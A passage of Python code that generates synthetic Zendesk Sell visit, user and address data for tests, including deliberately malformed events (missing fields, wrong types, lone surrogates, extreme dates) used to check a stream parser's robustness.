                plan.summary = f"{plan.summary} {rng.choice(FOLLOW_UPS)}".strip()
            data = {
                "id": visit_id,
                "creator_id": plan.rep.id,
                "outcome_id": plan.outcome_id,
                "resource_type": plan.customer.resource_type,
                "resource_id": plan.customer.resource_id,
                "visited_at": _iso_ms(plan.visited_at),
                "created_at": _iso_ms(plan.created_at),
                "updated_at": _iso_ms(min(updated_at, self.now)),
                "summary": plan.summary,
                "rep_location_verification_status": plan.status,
            }
            self.history[visit_id] = {"data": data, "position": plan.position}

    def _heavy_plans(self, rng: random.Random, *, count: int, since: datetime) -> list[_Visit]:
        """The heavy rep's visits; see team_generate for their shape."""
        region = REGIONS[0]
        heavy = Rep(id=HEAVY_REP_ID, name=HEAVY_REP_NAME, email=f"ramona.castellanos@{EMAIL_DOMAIN}", region=region)
        heavy.in_users = False
        heavy.customers = [
            self._customer_new(region, rng=rng, resource_type=kind) for kind in RESOURCE_TYPES for _ in range(40)
        ]
        self.heavy = heavy
        leaf = min(count, 20_000, max(10_002, count * 3 // 5))  # 10,002: the prehistoric delete may take one
        leads = [c for c in heavy.customers if c.resource_type == "lead"]
        leaf_key = ("verified", 4101, "lead")
        span = (self.start - timedelta(hours=1) - since).total_seconds()
        plans = []
        for index in range(count):
            visited_at = (since + timedelta(seconds=rng.uniform(0, span))).replace(microsecond=0)
            if index < leaf:
                status, outcome_id, customer = "verified", 4101, rng.choice(leads)
            else:
                while True:
                    status, outcome_id = rng.choice(STATUSES), rng.choice(list(OUTCOMES))
                    customer = rng.choice(heavy.customers)
                    if (status, outcome_id, customer.resource_type) != leaf_key:
                        break
            summary = rng.choice(SUMMARIES[outcome_id])
            created_at = visited_at + timedelta(seconds=rng.randint(60, 900))
            position = self._position(customer, status, rng=rng)
            plans.append(_Visit(heavy, customer, visited_at, created_at, status, position, outcome_id, summary))
        return plans

    def addresses_build(self) -> None:
        """Every customer's address as Sell's Core API gives it, a few of them hostile."""
        rng = random.Random(self.seed + 2)
        reps = self.reps + ([self.heavy] if self.heavy else [])
        customers = sorted(
            {
                (c.resource_type, c.resource_id): (c, rep.region)
                for rep in reps
                for c in rep.customers + rep.far_customers
            }.items()
        )
        for key, (_, region) in customers:
            street = f"{rng.randint(1, 9800)} {rng.choice(STREETS)}"
            postal = f"{POSTAL_PREFIXES[region.name]}{rng.randint(0, 99):02d}"
            self.addresses[key] = f"{street}, {postal} {region.name}, United States"
        for (key, _), address in zip(rng.sample(customers, min(len(customers), 4)), HOSTILE_ADDRESSES, strict=False):
            self.addresses[key] = address

    def core_visits(self, *, deleted: bool) -> dict[int, dict]:
        """v2 data of the visits Sell lists (`deleted` False) or of those the Firehose deleted."""
        gone = {visit_id for visit_id, truth in self.visits.items() if truth["deleted"]}
        result: dict[int, dict] = {}
        for visit_id, entry in self.history.items():
            if (visit_id in gone) == deleted:
                result[visit_id] = dict(entry["data"], resource_address=self._address(entry["data"]))
        for visit_id, truth in self.visits.items():
            snapshot = truth["snapshot"]
            if snapshot is None or truth["deleted"] != deleted:
                continue
            data = {
                "id": visit_id,
                "creator_id": snapshot["creator_id"],
                "outcome_id": snapshot["outcome"]["id"],
                "resource_type": snapshot["resource_type"],
                "resource_id": snapshot["resource_id"],
                "visited_at": snapshot["visited_at"].replace("Z", ".000Z"),
                "created_at": snapshot["created_at"].replace("Z", ".000Z"),
                "updated_at": _iso_ms(self.updated_at[visit_id]),
                "summary": snapshot["summary"],
                "rep_location_verification_status": snapshot["sales_rep_location"]["verification_status"],
            }
            data["resource_address"] = self._address(data)
            result[visit_id] = data
        return result

    def _address(self, data: dict) -> str:
        return self.addresses.get((data["resource_type"], data["resource_id"]), "")

    def core_users(self) -> dict[int, dict]:
        groups = {"Central": CORE_GROUPS[0], "East": CORE_GROUPS[1]}
        director, quiet = CORE_EXTRA_USERS
        users: dict[int, dict] = {}

        def add(person: dict, **fields: object) -> None:
            known = self.users.get(person["id"], {})
            user = {
                "id": person["id"],
                "name": known.get("name", person["name"]),
                "email": known.get("email", person["email"]),
                "status": known.get("status", "active"),
                "role": known.get("role", person.get("role", "user")),
                "roles": [],
                "confirmed": True,
                "invited": True,
                "phone_number": "",
                "created_at": (known.get("created_at") or _iso(self.start - timedelta(days=2000))).replace(
                    "Z", ".000Z"
                ),
                "updated_at": _iso_ms(self.start),
                "deleted_at": None,
                "zendesk_user_id": str(900_000_000 + person["id"]),
                **fields,
            }
            users[user["id"]] = user

        add(director, team_name=director["team_name"], group=None, reports_to=None, timezone="UTC-05:00")
        for index, manager in enumerate(self.managers):
            group = CORE_GROUPS[index % len(CORE_GROUPS)]
            add(
                {"id": manager.id, "name": manager.name, "email": manager.email, "role": "admin"},
                team_name=f"{group['name']} field sales", group=dict(group), reports_to=director["id"],
                timezone="UTC-06:00" if index == 0 else "UTC-05:00",
            )  # fmt: skip
        add(
            quiet,
            team_name=quiet["team_name"],
            group=dict(CORE_GROUPS[1]),
            reports_to=director["id"],
            timezone="UTC-05:00",
        )
        for rep in self.reps:
            region = "East" if rep.region.name == "Atlanta" else "Central"
            manager = self.managers[0 if region == "Central" else 1] if len(self.managers) > 1 else None
            add(
                {"id": rep.id, "name": rep.name, "email": rep.email},
                team_name=f"{groups[region]['name']} field sales", group=dict(groups[region]),
                reports_to=manager.id if manager else director["id"],
                timezone="UTC-05:00" if rep.region.name == "Atlanta" else "UTC-06:00",
            )  # fmt: skip
        if self.heavy:
            heavy = self.heavy
            add(
                {"id": heavy.id, "name": heavy.name, "email": heavy.email},
                team_name=quiet["team_name"], group=dict(CORE_GROUPS[1]), reports_to=quiet["id"], timezone="UTC-06:00",
            )  # fmt: skip
        return users

    def core_outcomes(self) -> dict[int, str]:
        names = {outcome_id: self._outcome_name(outcome_id, at=self.now) for outcome_id in OUTCOMES}
        return {**names, **CORE_UNUSED_OUTCOMES}

    # --- shared ---------------------------------------------------------------------------

    def _moment(self, low: float = 0.0, high: float = 1.0) -> datetime:
        """A random second between fractions `low` and `high` of the simulated window."""
        return (self.start + (self.now - self.start) * self.rng.uniform(low, high)).replace(microsecond=0)

    def _event(
        self, kind: str, event_type: str, data: dict, *, sequence: int, at: datetime, previous: dict | None = None
    ) -> dict:
        event_id = base64.urlsafe_b64encode(self.rng.getrandbits(128).to_bytes(16, "big")).decode().rstrip("=")
        meta = {
            "type": kind,
            "event_type": event_type,
            "event_cause": "interaction",
            "sequence": sequence,
            "event_id": event_id,
            "event_time": _iso(at),
        }
        if previous is not None:
            meta["previous"] = previous
        return {"data": data, "meta": meta}


VISIT_DAMAGE: dict[str, Callable[[dict], object]] = {
    "missing_id": lambda event: event["data"].pop("id"),
    "data_not_object": lambda event: event.update(data="visit at Joe's Diner"),
    "id_not_integer": lambda event: event["data"].update(id="abc"),
    "unknown_verification_status": lambda event: event["data"]["sales_rep_location"].update(
        verification_status="teleported"
    ),
    "latitude_out_of_range": lambda event: event["data"]["sales_rep_location"].update(latitude=123.4),
    "unparseable_visited_at": lambda event: event["data"].update(visited_at="yesterday"),
    "unknown_event_type": lambda event: event["meta"].update(event_type="exploded"),
    "missing_sequence": lambda event: event["meta"].pop("sequence"),
    "missing_meta": lambda event: event.pop("meta"),
    # Hostile: each of these once stopped the stream for good (an exception, not a reject).
    "verification_status_list": lambda event: event["data"]["sales_rep_location"].update(
        verification_status=["verified"]
    ),
    "visited_at_year_one": lambda event: event["data"].update(visited_at="0001-01-01T00:00:00+01:00"),
    "event_time_year_9999": lambda event: event["meta"].update(event_time="9999-12-31T23:59:59-01:00"),
    "summary_lone_surrogate": lambda event: event["data"].update(summary="Met the buyer \ud800 at noon."),
    "outcome_name_lone_surrogate": lambda event: event["data"]["outcome"].update(name="\udfff"),
}
USER_DAMAGE: dict[str, Callable[[dict], object]] = {
    "name_lone_surrogate": lambda event: event["data"].update(name="Pat \ud800 Doe"),
    "status_object": lambda event: event["data"].update(status={"active": True}),
    "event_time_year_one": lambda event: event["meta"].update(event_time="0001-01-01T00:00:00+01:00"),
}


def _ordered(entries: list[tuple[datetime, dict]]) -> list[dict]:
    # sorted() is stable and each id's events were added oldest first, so per-id order holds.
    return [event for _, event in sorted(entries, key=lambda entry: entry[0])]


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime(TIME_FORMAT)


def _iso_ms(moment: datetime) -> str:
    """As the Core API writes times: milliseconds, where the Firehose sends seconds only."""
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _names(*, count: int) -> list[str]:
    """The featured names first, then first/last name combinations nobody has yet."""
    names = list(REP_NAMES[:count])
    pairs = itertools.product([n.split()[0] for n in REP_NAMES], [n.split()[-1] for n in REP_NAMES])
    taken = set(names)
    for first, last in pairs:
        if len(names) >= count:
            break
        if f"{first} {last}" not in taken:
            names.append(f"{first} {last}")
            taken.add(names[-1])
    return names


def _email(*, name: str, taken: set[str]) -> str:
    local = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode().lower()
    local = ".".join(part.replace("'", "") for part in local.split())
    email, number = f"{local}@{EMAIL_DOMAIN}", 2
    while email in taken:
        email, number = f"{local}{number}@{EMAIL_DOMAIN}", number + 1
    taken.add(email)
    return email


def _offset(latitude: float, longitude: float, *, metres: float, bearing: float) -> tuple[float, float]:
    """The point `metres` away from (latitude, longitude) along `bearing` degrees, to 6 decimals."""
    distance = metres / EARTH_RADIUS_M
    lat1, lon1, theta = math.radians(latitude), math.radians(longitude), math.radians(bearing)
    lat2 = math.asin(math.sin(lat1) * math.cos(distance) + math.cos(lat1) * math.sin(distance) * math.cos(theta))
    lon2 = lon1 + math.atan2(
        math.sin(theta) * math.sin(distance) * math.cos(lat1), math.cos(distance) - math.sin(lat1) * math.sin(lat2)
    )
    return round(math.degrees(lat2), 6), round(math.degrees(lon2), 6)


def _distance_m(a: tuple[float, float], b: tuple[float, float]) -> float:
    lat1, lon1, lat2, lon2 = map(math.radians, (*a, *b))
    h = math.sin((lat2 - lat1) / 2) ** 2 + math.cos(lat1) * math.cos(lat2) * math.sin((lon2 - lon1) / 2) ** 2
    return 2 * EARTH_RADIUS_M * math.asin(math.sqrt(h))
